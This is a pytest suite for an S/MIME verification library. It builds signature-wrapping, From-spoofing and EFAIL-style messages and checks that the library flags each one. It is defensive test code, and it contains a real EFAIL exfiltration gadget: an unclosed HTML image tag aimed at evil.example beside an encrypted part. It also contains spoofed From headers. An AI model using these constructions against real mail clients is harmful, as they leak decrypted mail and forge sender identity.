"""Attack classes from "Johnny, You Are Fired" and EFAIL: CMS, MIME wrapping, ID, partial."""

from __future__ import annotations

from typing import Any

import pytest
from support.smime_pki import (
    SENDER,
    TestPKI,
    body_of,
    encrypted_message,
    headers,
    make_context,
    mime_text,
    multipart_signed,
    openssl_verify,
    pkcs7_mime,
    raw_signed_data,
    raw_signer_info,
    sign_detached_der,
    sign_opaque_der,
    signed_message,
)
from support.smime_pki import (
    run_unwrap as run,
)


@pytest.fixture(scope="module")
def ctx(pki: TestPKI) -> Any:
    return make_context(pki)


def _detached(pki: TestPKI, inner: bytes, signer_infos: list[object], **kw: Any) -> bytes:
    der = raw_signed_data(inner, signer_infos, detached=True, certs=[pki["sender"].cert, pki.inter.cert], **kw)
    return multipart_signed(headers(), inner, der)


# --- CMS ---------------------------------------------------------------------------------


def test_signed_attributes_in_non_der_order_verify_as_sent(pki: TestPKI, ctx: Any) -> None:
    inner = mime_text()
    si = raw_signer_info(pki["sender"], inner)  # signing_time, message_digest, content_type
    res = run(_detached(pki, inner, [si]), ctx)
    assert res.verdict.verdict == "verified", res.verdict.reasons


def test_second_signer_info_that_fails_makes_the_signature_invalid(pki: TestPKI, ctx: Any) -> None:
    inner = mime_text()
    good = raw_signer_info(pki["sender"], inner)
    bad = raw_signer_info(pki["sender"], inner, digest=b"\x00" * 32)
    raw = _detached(pki, inner, [good, bad])
    res = run(raw, ctx)
    assert res.verdict.signature.status == "invalid"
    assert "digest-mismatch" in res.verdict.reasons
    assert not openssl_verify(pki, raw)


def test_two_valid_signer_infos_verify(pki: TestPKI, ctx: Any) -> None:
    inner = mime_text()
    sis = [raw_signer_info(pki["sender"], inner), raw_signer_info(pki["sender"], inner)]
    assert run(_detached(pki, inner, sis), ctx).verdict.verdict == "verified"


def test_signed_data_without_signer_info_is_unsigned(pki: TestPKI, ctx: Any) -> None:
    raw = _detached(pki, mime_text(), [])
    res = run(raw, ctx)
    assert res.verdict.signature.status == "none"
    assert "no-signer-info" in res.verdict.reasons
    assert res.verdict.verdict == "unverified"


def test_opaque_signed_data_without_econtent_is_unsigned(pki: TestPKI, ctx: Any) -> None:
    inner = mime_text()
    der = raw_signed_data(
        inner, [raw_signer_info(pki["sender"], inner)], detached=True, certs=[pki["sender"].cert, pki.inter.cert]
    )
    raw = pkcs7_mime(headers(), der, "signed-data")
    res = run(raw, ctx)
    assert res.verdict.signature.status == "none"
    assert "no-econtent" in res.verdict.reasons
    assert res.content == raw


@pytest.mark.parametrize("missing", ["message_digest", "content_type"])
def test_missing_mandatory_signed_attribute_is_invalid(pki: TestPKI, ctx: Any, missing: str) -> None:
    inner = mime_text()
    attrs = tuple(a for a in ("content_type", "message_digest", "signing_time") if a != missing)
    res = run(_detached(pki, inner, [raw_signer_info(pki["sender"], inner, attrs=attrs)]), ctx)
    assert res.verdict.signature.status == "invalid"
    assert "missing-signed-attributes" in res.verdict.reasons


def test_econtent_inside_a_detached_signature_is_invalid(pki: TestPKI, ctx: Any) -> None:
    inner = mime_text()
    other = mime_text("Überweisen Sie 10.000 EUR.\r\n")
    der = raw_signed_data(
        other, [raw_signer_info(pki["sender"], other)], detached=False, certs=[pki["sender"].cert, pki.inter.cert]
    )
    res = run(multipart_signed(headers(), inner, der), ctx)
    assert res.verdict.signature.status == "invalid"
    assert "econtent-in-detached-signature" in res.verdict.reasons


def test_certificates_in_the_message_never_become_anchors(pki: TestPKI, ctx: Any) -> None:
    inner = mime_text()
    der = raw_signed_data(
        inner, [raw_signer_info(pki["rogue"], inner)], detached=True, certs=[pki["rogue"].cert, pki.rogue_root.cert]
    )
    res = run(multipart_signed(headers(), inner, der), ctx)
    assert res.verdict.signature.status == "untrusted"
    assert "untrusted-chain" in res.verdict.reasons


def test_signature_without_certificates_cannot_be_evaluated(pki: TestPKI, ctx: Any) -> None:
    inner = mime_text()
    raw = multipart_signed(headers(), inner, sign_detached_der(pki["sender"], inner, certs=False))
    res = run(raw, ctx)
    assert res.verdict.signature.status == "error"
    assert "signer-certificate-missing" in res.verdict.reasons


# --- MIME wrapping --------------------------------------------------------------------------


def test_signed_part_nested_in_unsigned_mixed_is_partially_signed(pki: TestPKI, ctx: Any) -> None:
    signed = body_of(signed_message(pki["sender"]))
    raw = headers() + (
        b'Content-Type: multipart/mixed; boundary="outer"\r\n\r\n'
        b"--outer\r\nContent-Type: text/plain\r\n\r\nZahlen Sie an IBAN DE00 0000.\r\n"
        b"--outer\r\n" + signed + b"\r\n--outer--\r\n"
    )
    res = run(raw, ctx)
    v = res.verdict
    assert v.verdict == "unverified"
    assert "partially-signed" in v.reasons
    assert v.signature.status == "valid"
    assert not v.signature.covers_whole_message
    assert res.content == raw


def test_text_outside_the_signed_part_after_close_delimiter_is_not_content(pki: TestPKI, ctx: Any) -> None:
    raw = signed_message(pki["sender"]) + b"\r\nUnsigned epilogue: pay now.\r\n"
    res = run(raw, ctx)
    assert res.verdict.verdict == "verified"
    assert b"pay now" not in res.content


def test_multipart_signed_without_close_delimiter_is_invalid(pki: TestPKI, ctx: Any) -> None:
    raw = signed_message(pki["sender"])
    truncated = raw[: raw.rindex(b"--sig-boundary-42--")]
    res = run(truncated, ctx)
    assert res.verdict.signature.status == "invalid"
    assert "malformed-signature" in res.verdict.reasons


def test_deeply_nested_layers_are_bounded(pki: TestPKI, ctx: Any) -> None:
    entity = mime_text()
    for _ in range(10):
        entity = body_of(pkcs7_mime(headers(), sign_opaque_der(pki["sender"], entity), "signed-data"))
    res = run(headers() + entity.split(b"\r\n\r\n", 1)[0] + b"\r\n\r\n" + entity.split(b"\r\n\r\n", 1)[1], ctx)
    assert res.verdict.verdict == "quarantined"
    assert res.quarantine_reason == "too-many-layers"


# --- partial encryption -------------------------------------------------------------------


def test_encrypted_part_next_to_plaintext_is_partially_encrypted(pki: TestPKI, ctx: Any) -> None:
    enveloped = body_of(encrypted_message([pki["recipient"].cert], mime_text("geheim\r\n")))
    raw = headers() + (
        b'Content-Type: multipart/mixed; boundary="efail"\r\n\r\n'
        b'--efail\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n'
        b"--efail\r\n" + enveloped + b"\r\n--efail--\r\n"
    )
    res = run(raw, ctx)
    assert res.verdict.encryption.status == "partial"
    assert "partially-encrypted" in res.verdict.reasons
    assert res.content == raw
    assert b"geheim" not in res.content
    assert not any(e.type == "decrypted" for e in res.events)


# --- identity ------------------------------------------------------------------------------


def test_signer_other_than_from_is_not_verified(pki: TestPKI, ctx: Any) -> None:
    res = run(signed_message(pki["sender"], from_="chef@rathaus.example"), ctx)
    assert res.verdict.signature.status == "valid"
    assert res.verdict.verdict == "unverified"
    assert "signer-not-from" in res.verdict.reasons


def test_display_name_with_signer_address_does_not_count(pki: TestPKI, ctx: Any) -> None:
    inner = mime_text()
    sig = sign_detached_der(pki["sender"], inner)
    outer = headers().replace(
        f"From: Alice Example <{SENDER}>".encode(), f'From: "{SENDER}" <mallory@evil.example>'.encode()
    )
    res = run(multipart_signed(outer, inner, sig), ctx)
    assert res.verdict.reasons == ("from-ambiguous",)  # the display name shows another address


def test_domain_compares_case_insensitively_but_local_part_exactly(pki: TestPKI, ctx: Any) -> None:
    assert run(signed_message(pki["sender"], from_="alice@EXAMPLE.ORG"), ctx).verdict.verified
    res = run(signed_message(pki["sender"], from_="ALICE@example.org"), ctx)
    assert "signer-not-from" in res.verdict.reasons


@pytest.mark.parametrize(
    "from_header",
    [
        b"From: alice@example.org\r\nFrom: mallory@evil.example\r\n",
        b"From: alice@example.org, mallory@evil.example\r\n",
    ],
)
def test_several_from_addresses_are_never_verified(pki: TestPKI, ctx: Any, from_header: bytes) -> None:
    inner = mime_text()
    sig = sign_detached_der(pki["sender"], inner)
    outer = b"\r\n".join(line for line in headers().split(b"\r\n") if not line.startswith(b"From:"))
    res = run(multipart_signed(from_header + outer, inner, sig), ctx)
    assert res.verdict.verdict == "unverified"
    assert "multiple-from" in res.verdict.reasons


def test_protected_from_that_differs_from_outer_from_is_not_verified(pki: TestPKI, ctx: Any) -> None:
    inner = b"From: chef@rathaus.example\r\n" + mime_text()
    res = run(signed_message(pki["sender"], inner), ctx)
    assert "protected-from-mismatch" in res.verdict.reasons
